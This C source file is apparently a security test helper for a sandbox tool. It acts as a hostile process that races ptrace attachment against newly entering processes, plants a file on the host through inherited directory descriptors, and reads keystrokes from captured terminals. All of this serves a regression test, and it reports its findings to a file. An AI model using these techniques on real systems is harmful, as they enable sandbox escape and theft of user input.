/* SPDX-License-Identifier: MIT */
/* enter-attack: what a hostile process inside a named sandbox does to every process that
 * sbx --enter brings in (tests/security/60-enter.bats). It watches the sandbox's PID
 * namespace for new processes, predicting the next pids rather than scanning /proc so that
 * it sees a process in its first microseconds, and for each one:
 *  - PTRACE_ATTACH in a tight loop: attaching before the process is confined (no seccomp
 *    filter yet, or capabilities left) is a win: with it the attacker could make the
 *    entering process run anything unfiltered, or write into the caller's terminal;
 *  - opens /proc/PID/fd/N: a directory fd of the caller's is used to create a file on the
 *    host; a terminal is read from, to steal what the user types after sbx returns.
 * Reports one line per finding on the file OUT; stops when OUT.stop exists.
 *
 *   enter-attack OUT [FILE-NAME-TO-PLANT] */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *out;
static const char *plant = "planted-by-sandbox";

static void field(pid_t pid, const char *key, char *buf, size_t size)
{
	char path[64], line[256];
	FILE *f;

	snprintf(buf, size, "?");
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	if (!(f = fopen(path, "re")))
		return;
	while (fgets(line, sizeof(line), f))
		if (strncmp(line, key, strlen(key)) == 0) {
			snprintf(buf, size, "%s", line + strlen(key));
			buf[strcspn(buf, "\n\t ")] = '\0';
			if (!buf[0])
				snprintf(buf, size, "%s", line + strlen(key) + 1);
			buf[strcspn(buf, "\n")] = '\0';
		}
	fclose(f);
}

/* 0 once attached (and reported), -errno otherwise. PTRACE_SEIZE: the same permission
 * check as PTRACE_ATTACH, without a SIGSTOP that could leave the process stopped. */
static int try_attach(pid_t pid)
{
	char seccomp[32], caps[32], name[64];
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return -errno;
	field(pid, "Seccomp:", seccomp, sizeof(seccomp));
	field(pid, "CapEff:", caps, sizeof(caps));
	field(pid, "Name:", name, sizeof(name));
	/* The sandbox's own command, once exec'd, is fair game: it is as confined as we are. */
	if (strcmp(seccomp, "0") == 0 || strspn(caps, "0") != strlen(caps))
		fprintf(out, "WIN attached pid %d (%s) before it was confined: seccomp %s caps %s\n",
			pid, name, seccomp, caps);
	else
		fprintf(out, "late attached pid %d (%s), confined: seccomp %s\n", pid, name,
			seccomp);
	fflush(out);
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid &&
	    WIFSTOPPED(status))
		ptrace(PTRACE_DETACH, pid, 0, 0);
	return 0;
}

/* A terminal: read what the user types next (in the background, the watch goes on). */
static void steal_tty(int fd, pid_t pid, int n)
{
	char buf[256];
	ssize_t len;
	struct pollfd p = { .fd = fd, .events = POLLIN };

	struct stat st;

	if (fstat(fd, &st) < 0)
		return;
	fprintf(out, "TTY pid %d fd %d is a terminal, rdev=%x:%x\n", pid, n, major(st.st_rdev),
		minor(st.st_rdev));
	fflush(out);
	if (fork() != 0)
		return;
	while (poll(&p, 1, 20000) == 1 && (len = read(fd, buf, sizeof(buf) - 1)) > 0) {
		buf[len] = '\0';
		buf[strcspn(buf, "\r\n")] = '\0';
		fprintf(out, "STOLE %s\n", buf);
		fflush(out);
	}
	_exit(0);
}

/* Returns 0 once the process's fds could be looked at (it may still be too early). */
static int try_fds(pid_t pid)
{
	char dir[64];
	DIR *d;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", pid);
	if (!(d = opendir(dir)))
		return -1;
	closedir(d);
	for (int n = 0; n < 64; n++) {
		char path[64], target[512] = "";
		struct stat st;
		int fd;
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, n);
		if (readlink(path, target, sizeof(target) - 1) < 0)
			continue;
		fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (n > 2)
			fprintf(out, "FD pid %d fd %d -> %s\n", pid, n, target);
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			int f = openat(fd, plant, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
			if (f >= 0) {
				fprintf(out, "WROTE %s/%s through pid %d fd %d\n", target, plant,
					pid, n);
				close(f);
			}
		} else if (isatty(fd)) {
			int flags = fcntl(fd, F_GETFL);
			fcntl(fd, F_SETFL, flags & ~O_NONBLOCK);
			steal_tty(fd, pid, n);
		}
		fflush(out);
		close(fd);
	}
	return 0;
}

static long now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* Processes seen recently: tried again and again while they are young, since the window
 * to win opens some microseconds after a process is born. */
struct hot {
	pid_t pid;
	long born;
	int attached, fds;
};

int main(int argc, char **argv)
{
	char stop[4096];
	pid_t next = getpid() + 1;
	struct hot hot[16] = { 0 };
	size_t nh = 0;

	if (argc < 2)
		return 2;
	if (argc > 2)
		plant = argv[2];
	snprintf(stop, sizeof(stop), "%s.stop", argv[1]);
	out = fopen(argv[1], "a");
	if (!out)
		return 1;
	signal(SIGCHLD, SIG_IGN);
	fprintf(out, "ready %d\n", getpid());
	fflush(out);
	for (unsigned long spin = 0;; spin++) {
		/* The next few pids, as fast as we can: a new process is caught at birth. */
		for (pid_t p = next; p < next + 4; p++) {
			int r = try_attach(p);
			if (r == -ESRCH)
				continue;
			hot[nh++ % 16] = (struct hot){ .pid = p, .born = now_ms(), .attached = r == 0 };
			next = p + 1;
		}
		for (size_t i = 0; i < 16; i++) {
			struct hot *h = &hot[i];
			if (!h->pid || now_ms() - h->born > 3000)
				continue;
			if (!h->attached && try_attach(h->pid) == 0)
				h->attached = 1;
			if (!h->fds && try_fds(h->pid) == 0)
				h->fds = 1;
		}
		if (spin % 1024 == 0) {
			if (access(stop, F_OK) == 0)
				break;
			/* pids taken while we looked elsewhere (our own forks, say) */
			for (pid_t p = next + 4; p < next + 64; p++)
				if (kill(p, 0) == 0 || errno == EPERM)
					next = p + 1;
		}
	}
	return 0;
}
